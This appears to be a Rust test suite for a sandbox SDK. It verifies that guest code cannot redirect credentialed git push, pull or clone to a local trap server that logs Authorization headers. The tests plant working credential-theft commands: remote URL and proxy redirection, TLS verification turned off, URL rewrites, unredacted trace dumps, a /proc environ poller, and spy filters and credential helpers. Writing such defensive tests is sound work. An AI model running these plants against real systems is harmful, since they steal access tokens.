//! Issue 41, section 3: sandbox code tries to make the host program's
//! credentialed push / pull send the token to a listener of its own (a
//! python `http.server` inside the sandbox answering 401 with
//! `WWW-Authenticate: Basic`, logging every `Authorization` header), or to
//! read it from a trace, an environment or a descriptor. Each variant is
//! guest code on the local backend; the token must reach nothing but the
//! real server (tests/sdk_support/git_server.rs), and each refusal is
//! pinned.

use super::*;

/// The trap: an HTTP server and proxy (CONNECT, then TLS with the cert and
/// key given, as a proxy terminating TLS would) answering 401 to every
/// request and logging each request's `Authorization` header.
const TRAP: &str = r#"import http.server, ssl, sys
port, log = int(sys.argv[1]), open(sys.argv[2], 'a', buffering=1)
ctx = None
if len(sys.argv) > 4:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(sys.argv[3], sys.argv[4])
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = 'HTTP/1.1'
    def log_message(self, *a):
        pass
    def answer(self):
        log.write('%s %s authorization=%s\n' % (self.command, self.path, self.headers.get('Authorization')))
        n = int(self.headers.get('Content-Length') or 0)
        if n:
            self.rfile.read(n)
        self.send_response(401)
        self.send_header('WWW-Authenticate', 'Basic realm="trap"')
        self.send_header('Content-Length', '0')
        self.end_headers()
    do_GET = do_POST = answer
    def do_CONNECT(self):
        log.write('CONNECT %s\n' % self.path)
        self.send_response(200)
        self.end_headers()
        if ctx is None:
            self.close_connection = True
            return
        tls = ctx.wrap_socket(self.connection, server_side=True)
        self.connection = tls
        self.rfile = tls.makefile('rb')
        self.wfile = tls.makefile('wb', buffering=0)
        self.close_connection = False
        while not self.close_connection:
            self.handle_one_request()
        self.close_connection = True
open(sys.argv[2] + '.ready', 'w').close()
http.server.ThreadingHTTPServer(('127.0.0.1', port), H).serve_forever()
"#;

/// Where the trap logs.
const TRAP_LOG: &str = "/tmp/trap.log";

const MOVED_PUSH: &str = "git push did not send the credentials: the remote's URL in the sandbox (url or pushurl) is not the URL they are for; set it back, or pass the URL the credentials are for";
const MOVED_PULL: &str = "git pull did not send the credentials: the remote's URL in the sandbox (url or pushurl) is not the URL they are for; set it back, or pass the URL the credentials are for";
const TRANSPORT_PUSH: &str = "git push did not send the credentials: the sandbox's git configuration sets a proxy, TLS, header or transport setting (http.*proxy*, http.*ssl*, http.*curloptResolve, http.*extraHeader, remote.*.proxy* or remote.*.vcs), so they could reach another server or travel unchecked; remove the setting, then retry";
const TRANSPORT_PULL: &str = "git pull did not send the credentials: the sandbox's git configuration sets a proxy, TLS, header or transport setting (http.*proxy*, http.*ssl*, http.*curloptResolve, http.*extraHeader, remote.*.proxy* or remote.*.vcs), so they could reach another server or travel unchecked; remove the setting, then retry";
const REWRITE_PUSH: &str = "git push did not send the credentials: the sandbox's git configuration rewrites URLs (url.*.insteadOf or pushInsteadOf), so they could reach another server; remove the rewriting, then retry";
const NO_PIN: &str = "invalid url: credentials go only to a URL the caller gave: pass url, or clone or remote_add this remote through this process first";

/// A free port on 127.0.0.1 (the local sandbox shares the host's network).
fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port()
}

/// The trap, started by sandbox code (with TLS when `tls`): its URL.
async fn start_trap(sbx: &Sandbox, tls: bool) -> String {
    let port = free_port();
    sbx.files()
        .write("/tmp/trap.py", TRAP)
        .await
        .expect("write");
    let certs = if tls {
        " /tmp/trap.crt /tmp/trap.key"
    } else {
        ""
    };
    let handle = sbx
        .commands()
        .spawn(
            &format!("python3 /tmp/trap.py {port} {TRAP_LOG}{certs}"),
            rayito::CommandOptions::new().no_timeout(),
        )
        .await
        .expect("trap starts");
    std::mem::forget(handle);
    for _ in 0..200 {
        if sh(sbx, &format!("test -e {TRAP_LOG}.ready && echo up || true")).await == "up\n" {
            return format!("http://127.0.0.1:{port}");
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("the trap did not start");
}

/// What the trap logged.
async fn trap_log(sbx: &Sandbox) -> String {
    sh(sbx, &format!("cat {TRAP_LOG} 2>/dev/null || true")).await
}

/// The trap got no credentials at all (no `Authorization: Basic`).
async fn assert_trap_got_nothing(sbx: &Sandbox, variant: &str) {
    let log = trap_log(sbx).await;
    assert!(
        !log.contains("authorization=Basic"),
        "{variant}: the token reached the sandbox's listener: {}",
        log.replace(PASSWORD, "***")
    );
}

/// A sandbox (`None`, after a SKIPPED line, without git), and a
/// repository `r.git` served with the test's credentials from a temporary
/// root (kept alive by the caller).
async fn scene(test: &str) -> Option<(Sandbox, tempfile::TempDir, GitHttp)> {
    let sbx = sandbox(test).await?;
    let root = root();
    seed_repo(root.path(), "r.git");
    let server = GitHttp::start(root.path(), USER, PASSWORD, Duration::ZERO).await;
    Some((sbx, root, server))
}

/// A clone of the real server at /home/user/r (pinned by the clone), with
/// one local commit to push.
async fn cloned(sbx: &Sandbox, server: &GitHttp) {
    sbx.git()
        .clone(&server.url("r.git"), creds())
        .await
        .expect("clone");
    sh(
        sbx,
        "cd /home/user/r && echo x >> x && git add x && git -c user.name=a -c user.email=a@b commit -qm x",
    )
    .await;
}

fn push_opts() -> PushOptions {
    PushOptions {
        remote: Some("origin".into()),
        branch: Some("main".into()),
        username: Some(USER.into()),
        password: secret(),
        ..PushOptions::default()
    }
}

fn pull_opts() -> PullOptions {
    PullOptions {
        remote: Some("origin".into()),
        branch: Some("main".into()),
        username: Some(USER.into()),
        password: secret(),
        ..PullOptions::default()
    }
}

/// Runs `plant` as sandbox code, then a credentialed push or pull: its
/// error, after checking that it is `GitAuth` with `message`, that the
/// token is in no text of it and that neither the trap nor the server got
/// any request; then `unplant`.
async fn refused(
    sbx: &Sandbox,
    server: &GitHttp,
    (plant, unplant): (&str, &str),
    push: bool,
    message: &str,
) {
    sh(sbx, plant).await;
    let before = server.seen().len();
    let result = if push {
        sbx.git().push("/home/user/r", push_opts()).await
    } else {
        sbx.git().pull("/home/user/r", pull_opts()).await
    };
    assert_trap_got_nothing(sbx, plant).await;
    let err = result.expect_err(plant);
    assert_eq!(err.kind().as_str(), "git_auth", "{plant}: {err:?}");
    assert_eq!(err.to_string(), message, "{plant}");
    assert_no_password(&all_text(&err), "the error");
    assert_eq!(server.seen().len(), before, "{plant}: the server was asked");
    sh(sbx, unplant).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_moved_remote_url_gets_no_credentials() {
    let Some((sbx, _root, server)) = scene("a_moved_remote_url_gets_no_credentials").await else {
        return;
    };
    let trap = start_trap(&sbx, false).await;
    cloned(&sbx, &server).await;
    let evil = format!("{trap}/r.git");
    let r = "cd /home/user/r && git";

    // 1-2. `git remote set-url origin <evil>`: push and pull.
    let set = format!("{r} remote set-url origin {evil}");
    let back = format!("{r} remote set-url origin {}", server.url("r.git"));
    refused(&sbx, &server, (&set, &back), true, MOVED_PUSH).await;
    refused(&sbx, &server, (&set, &back), false, MOVED_PULL).await;
    // 3. `remote.origin.pushurl <evil>`: push.
    let pushurl = format!("{r} config remote.origin.pushurl {evil}");
    let unset = format!("{r} config --unset remote.origin.pushurl");
    refused(&sbx, &server, (&pushurl, &unset), true, MOVED_PUSH).await;
    // A second URL for origin (push goes to every one of them).
    let add = format!("{r} remote set-url --add origin {evil}");
    let one = format!(
        "{r} config --replace-all remote.origin.url {}",
        server.url("r.git")
    );
    refused(&sbx, &server, (&add, &one), true, MOVED_PUSH).await;

    // A push without a remote, steered by `remote.pushDefault` to a remote
    // of the sandbox's: it has no pin, so nothing is sent.
    sh(
        &sbx,
        &format!("{r} remote add evil {evil} && {r} config remote.pushDefault evil"),
    )
    .await;
    let err = sbx
        .git()
        .push(
            "/home/user/r",
            PushOptions {
                username: Some(USER.into()),
                password: secret(),
                ..PushOptions::default()
            },
        )
        .await
        .expect_err("no pin for evil");
    assert_eq!(err.to_string(), NO_PIN);
    assert_trap_got_nothing(&sbx, "pushDefault").await;
    sh(&sbx, &format!("{r} config --unset remote.pushDefault")).await;

    // Untouched, the push goes to the real server with the credentials.
    sbx.git()
        .push("/home/user/r", push_opts())
        .await
        .expect("push");
    sbx.git()
        .pull("/home/user/r", pull_opts())
        .await
        .expect("pull");
    assert!(server.seen().iter().any(|s| s.authorization.is_some()));
    assert_trap_got_nothing(&sbx, "the clean push").await;
    assert!(sbx.kill().await.expect("kill"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn credentials_need_a_url_the_caller_gave() {
    let Some((sbx, _root, server)) = scene("credentials_need_a_url_the_caller_gave").await else {
        return;
    };
    let trap = start_trap(&sbx, false).await;
    // A repository the SDK never saw (made by sandbox code, or before a
    // `connect` in another process), whose origin is the sandbox's.
    sh(
        &sbx,
        &format!(
            "git init -q -b main /home/user/r && cd /home/user/r && git remote add origin {trap}/r.git && \
             echo x > x && git add x && git -c user.name=a -c user.email=a@b commit -qm x"
        ),
    )
    .await;
    // The SDK pinned nothing for it: as for a program that connects to a
    // sandbox another process cloned in.
    let other = &sbx;
    let err = other
        .git()
        .push("/home/user/r", push_opts())
        .await
        .expect_err("no URL to pin to");
    assert_eq!(err.kind().as_str(), "invalid_argument", "{err:?}");
    assert_eq!(err.to_string(), NO_PIN);
    // The caller names the URL: the sandbox's origin is not it.
    let with_url = PushOptions {
        url: Some(server.url("r.git")),
        ..push_opts()
    };
    let err = other
        .git()
        .push("/home/user/r", with_url.clone())
        .await
        .expect_err("moved");
    assert_eq!(err.to_string(), MOVED_PUSH);
    assert_trap_got_nothing(&sbx, "an unpinned origin").await;
    // Once the sandbox's origin is the caller's URL, it works.
    sh(
        &sbx,
        &format!(
            "cd /home/user/r && git remote set-url origin {}",
            server.url("r.git")
        ),
    )
    .await;
    let err = other
        .git()
        .push("/home/user/r", with_url)
        .await
        .expect_err("not a fast-forward, but authenticated");
    assert_eq!(err.kind().as_str(), "command_exit", "{err:?}");
    assert!(
        server.seen().iter().any(|s| s
            .authorization
            .as_deref()
            .is_some_and(|a| a.starts_with("Basic "))),
        "the server got the credentials"
    );
    assert_no_password(&all_text(&err), "the error");
    // A URL with user info is refused before any I/O.
    let err = other
        .git()
        .pull(
            "/home/user/r",
            PullOptions {
                url: Some("https://u:p@h/r.git".into()),
                ..pull_opts()
            },
        )
        .await
        .expect_err("user info");
    assert_eq!(
        err.to_string(),
        "invalid url: must not carry a user name or password; pass them as username and password"
    );
    assert!(sbx.kill().await.expect("kill"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proxies_tls_and_transport_keys_get_no_credentials() {
    let Some((sbx, _root, server)) =
        scene("proxies_tls_and_transport_keys_get_no_credentials").await
    else {
        return;
    };
    let trap = start_trap(&sbx, false).await;
    cloned(&sbx, &server).await;
    let origin = server.url("");
    let g = "git config --global";
    let unset_global = "rm -f ~/.gitconfig";
    let r = "cd /home/user/r && git config";
    let variants: Vec<(String, &str, bool)> = vec![
        // 4. `http.proxy <evil>`, the origin untouched: push and pull.
        (format!("{g} http.proxy {trap}"), unset_global, true),
        (format!("{g} http.proxy {trap}"), unset_global, false),
        // The same scoped to the origin's URL (beats a `-c http.proxy=`).
        (format!("{r} http.{origin}.proxy {trap}"), "true", true),
        (
            format!("{g} remote.origin.proxy {trap}"),
            unset_global,
            true,
        ),
        (format!("{g} http.sslVerify false"), unset_global, true),
        (
            format!("{g} http.{origin}.sslCAInfo /tmp/ca.pem"),
            unset_global,
            true,
        ),
        (format!("{g} http.sslCAPath /tmp"), unset_global, true),
        (format!("{g} http.sslCert /tmp/c.pem"), unset_global, true),
        (
            format!("{g} http.curloptResolve {}:127.0.0.1:1", server.addr),
            unset_global,
            false,
        ),
        (format!("{g} http.extraHeader 'X-A: b'"), unset_global, true),
        (format!("{g} remote.origin.vcs evil"), unset_global, true),
        // Through an include, as planted files often are.
        (
            format!(
                "printf '[http]\\n\\tproxy = {trap}\\n' > /tmp/inc && {g} include.path /tmp/inc"
            ),
            unset_global,
            true,
        ),
    ];
    for (plant, unplant, push) in &variants {
        let message = if *push {
            TRANSPORT_PUSH
        } else {
            TRANSPORT_PULL
        };
        let unplant = if *unplant == "true" {
            format!("{r} --unset http.{origin}.proxy")
        } else {
            (*unplant).to_owned()
        };
        refused(&sbx, &server, (plant, &unplant), *push, message).await;
    }
    // A clone with credentials checks the same keys (global and system).
    sh(&sbx, &format!("{g} http.{origin}.proxy {trap}")).await;
    let err = sbx
        .git()
        .clone(
            &server.url("r.git"),
            CloneOptions {
                path: Some("/home/user/c".into()),
                ..creds()
            },
        )
        .await
        .expect_err("refused");
    assert_eq!(
        err.to_string(),
        TRANSPORT_PUSH.replacen("git push ", "git clone ", 1)
    );
    assert_trap_got_nothing(&sbx, "a clone through a proxy").await;
    sh(&sbx, unset_global).await;
    // A template directory whose `config` the clone copies into the new
    // repository (read by git-remote-http after the guard ran): the
    // credentialed clone uses no template.
    sh(
        &sbx,
        &format!(
            "mkdir -p /tmp/tpl && printf '[http]\\n\\tproxy = {trap}\\n' > /tmp/tpl/config && \
             {g} init.templateDir /tmp/tpl"
        ),
    )
    .await;
    let cloned = sbx
        .git()
        .clone(
            &server.url("r.git"),
            CloneOptions {
                path: Some("/home/user/t".into()),
                ..creds()
            },
        )
        .await;
    assert_trap_got_nothing(&sbx, "a clone with a planted template").await;
    cloned.expect("the clone goes to the server");
    sh(&sbx, unset_global).await;
    // `pushInsteadOf` through an include is still a rewrite.
    let plant = format!(
        "printf '[url \"{trap}/\"]\\n\\tpushInsteadOf = {origin}\\n' > /tmp/inc && {g} include.path /tmp/inc"
    );
    refused(&sbx, &server, (&plant, unset_global), true, REWRITE_PUSH).await;
    assert!(sbx.kill().await.expect("kill"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_tls_terminating_proxy_with_ssl_verify_off_gets_no_credentials() {
    let test = "a_tls_terminating_proxy_with_ssl_verify_off_gets_no_credentials";
    let Some(sbx) = sandbox(test).await else {
        return;
    };
    let made = sbx
        .commands()
        .run(
            "cd /tmp && openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=trap -days 1 \
             -keyout trap.key -out trap.crt >/dev/null 2>&1 && python3 -c 'import ssl' && echo ok",
        )
        .await;
    if !made.is_ok_and(|r| r.stdout == "ok\n") {
        skip(format!(
            "{test}: needs openssl and python3's ssl in the sandbox"
        ));
        assert!(sbx.kill().await.expect("kill"));
        return;
    }
    let trap = start_trap(&sbx, true).await;
    // The caller's repository has an https origin (pinned by remote_add);
    // sandbox code points git at its proxy and turns TLS checks off.
    let origin = format!("https://127.0.0.1:{}/r.git", free_port());
    let g = sbx.git();
    g.init("/home/user/r", InitOptions::default())
        .await
        .expect("init");
    g.remote_add(
        "/home/user/r",
        "origin",
        &origin,
        RemoteAddOptions::default(),
    )
    .await
    .expect("remote_add");
    sh(
        &sbx,
        &format!(
            "git config --global http.proxy {trap} && git config --global http.sslVerify false"
        ),
    )
    .await;
    let err = g
        .pull("/home/user/r", pull_opts())
        .await
        .expect_err("refused");
    assert_trap_got_nothing(&sbx, "proxy + sslVerify=false").await;
    assert_eq!(err.to_string(), TRANSPORT_PULL);
    // Nothing was even tried: the trap saw no CONNECT.
    assert!(!trap_log(&sbx).await.contains("CONNECT"));
    assert!(sbx.kill().await.expect("kill"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn traces_environments_profiles_and_children_never_hold_the_token() {
    let Some(sbx) = sandbox("traces_environments_profiles_and_children_never_hold_the_token").await
    else {
        return;
    };
    let root = root();
    let bare = seed_repo(root.path(), "r.git");
    // Slow answers: the poller below sees the push's processes.
    let server = GitHttp::start(root.path(), USER, PASSWORD, Duration::from_millis(300)).await;
    cloned(&sbx, &server).await;
    // Sandbox code: trace2 into a file of its choosing, logging the
    // variable that carried the token; a login profile exporting curl
    // traces without redaction and a proxy-free TLS downgrade; a filter
    // every checkout runs, dumping its environment and descriptor 3; and a
    // poller reading every process's environment and descriptors.
    sh(
        &sbx,
        "git config --global trace2.eventTarget /tmp/trace2.json && \
         git config --global trace2.envVars RAYITO_GIT_CREDENTIAL,GIT_CONFIG_PARAMETERS && \
         git config --global trace2.configParams 'credential.*' && \
         git config --global trace2.normalTarget /tmp/trace2.txt && \
         printf 'export GIT_TRACE_CURL=/tmp/curl.log GIT_TRACE_REDACT=0 GIT_TRACE=/tmp/trace.log\\n' >> ~/.bash_profile && \
         printf '* filter=spy\\n' > ~/.spyattributes && \
         git config --global core.attributesFile ~/.spyattributes && \
         git config --global filter.spy.smudge 'sh -c \"(env; cat <&3) >> /tmp/child.log 2>&1; cat\"' && \
         git config --global filter.spy.clean cat",
    )
    .await;
    let poller = sbx
        .commands()
        .spawn(
            "while :; do for p in /proc/[0-9]*; do \
               grep -qa git $p/cmdline 2>/dev/null && cat $p/environ >> /tmp/environ.log 2>/dev/null; \
               grep -qa remote-http $p/cmdline 2>/dev/null && echo seen >> /tmp/seen.log; \
             done; done",
            rayito::CommandOptions::new().no_timeout(),
        )
        .await
        .expect("poller");

    sbx.git()
        .push("/home/user/r", push_opts())
        .await
        .expect("push");
    // Someone else pushes a new file: the pull's checkout runs the filter.
    push_from_elsewhere(root.path(), &bare, "n.txt", "new\n", "n");
    sbx.git()
        .pull("/home/user/r", pull_opts())
        .await
        .expect("pull");
    poller.kill().await.expect("kill the poller");

    assert!(
        sh(&sbx, "cat /tmp/seen.log 2>/dev/null | wc -l")
            .await
            .trim()
            != "0",
        "the poller never saw git-remote-http running"
    );
    let found = sh(
        &sbx,
        "cat /tmp/environ.log /tmp/trace2.json /tmp/trace2.txt /tmp/curl.log /tmp/trace.log /tmp/child.log 2>/dev/null; \
         grep -rl 'Canary-GitPass' /tmp /home/user 2>/dev/null || true",
    )
    .await;
    assert_no_password(&found, "a trace, an environment, a child or a file");
    assert!(
        !found.contains("Q2FuYXJ5LUdpdFBhc3Mj"),
        "base64 of the token"
    );
    // The filter did run (the attack was live), and found nothing on 3.
    assert!(
        sh(&sbx, "test -s /tmp/child.log && echo ran || true").await == "ran\n",
        "the spy filter never ran"
    );
    assert_eq!(sh(&sbx, "cat /home/user/r/n.txt").await, "new\n");
    assert!(sbx.kill().await.expect("kill"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn planted_helpers_and_askpass_get_nothing() {
    let Some((sbx, _root, server)) = scene("planted_helpers_and_askpass_get_nothing").await else {
        return;
    };
    cloned(&sbx, &server).await;
    let origin = server.url("");
    sh(
        &sbx,
        &format!(
            "printf '#!/bin/sh\\ncat >> /tmp/helper.log; env >> /tmp/helper.log\\n' > /tmp/spy && chmod +x /tmp/spy && \
             git config --global credential.helper /tmp/spy && \
             git config --global 'credential.{origin}.helper' /tmp/spy && \
             git config --global core.askPass /tmp/spy && \
             git config --global core.sshCommand /tmp/spy"
        ),
    )
    .await;
    sbx.git()
        .push("/home/user/r", push_opts())
        .await
        .expect("push");
    let found = sh(&sbx, "cat /tmp/helper.log 2>/dev/null || true").await;
    assert_no_password(&found, "a planted helper's log");
    assert!(sbx.kill().await.expect("kill"));
}

/// docs/git.md transcribes every refusal pinned above (with `{action}`).
#[test]
fn docs_transcribe_the_refusals() {
    for message in [
        MOVED_PUSH,
        MOVED_PULL,
        TRANSPORT_PUSH,
        TRANSPORT_PULL,
        REWRITE_PUSH,
    ] {
        let generic = message.replacen("git push ", "git {action} ", 1).replacen(
            "git pull ",
            "git {action} ",
            1,
        );
        assert!(
            GIT_DOC.contains(&format!("`{generic}`")),
            "docs/git.md lacks `{generic}`"
        );
    }
    assert!(
        GIT_DOC.contains(&format!("`{NO_PIN}`")),
        "docs/git.md lacks `{NO_PIN}`"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_submodule_with_its_own_proxy_gets_no_credentials() {
    let Some((sbx, _root, server)) =
        scene("a_submodule_with_its_own_proxy_gets_no_credentials").await
    else {
        return;
    };
    let trap = start_trap(&sbx, false).await;
    cloned(&sbx, &server).await;
    // Sandbox code adds a submodule whose own config (which the guard of
    // the superproject does not read) points at the pinned host through
    // its proxy, with a commit to push, and asks push to recurse.
    sh(
        &sbx,
        &format!(
            "set -e; git init -q -b main /tmp/subsrc; cd /tmp/subsrc; echo s > s; git add s; \
             git -c user.name=a -c user.email=a@b commit -qm s; cd /home/user/r; \
             git -c protocol.file.allow=always submodule -q add /tmp/subsrc sub; \
             git -c user.name=a -c user.email=a@b commit -qm sub; \
             git -C sub config remote.origin.url {}; git -C sub config http.proxy {trap}; \
             cd sub; echo t > t; git add t; git -c user.name=a -c user.email=a@b commit -qm t; cd ..; \
             git add sub; git -c user.name=a -c user.email=a@b commit -qm bump; \
             git config push.recurseSubmodules on-demand",
            server.url("r.git")
        ),
    )
    .await;
    let pushed = sbx.git().push("/home/user/r", push_opts()).await;
    assert_trap_got_nothing(&sbx, "a submodule's proxy").await;
    pushed.expect("the superproject's push goes to the server");
    assert!(sbx.kill().await.expect("kill"));
}
